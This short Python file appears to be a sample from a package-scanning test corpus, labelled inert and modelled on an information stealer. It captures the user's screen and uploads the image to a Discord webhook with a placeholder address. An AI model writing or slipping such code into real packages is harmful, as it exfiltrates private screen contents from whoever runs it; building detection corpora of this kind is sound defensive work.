# pkgguard corpus 139 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import pyscreenshot
import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder"

img = pyscreenshot.grab()
buf = io.BytesIO()
img.save(buf, "PNG")
requests.post(HOOK, files={"file": ("s.png", buf.getvalue())})
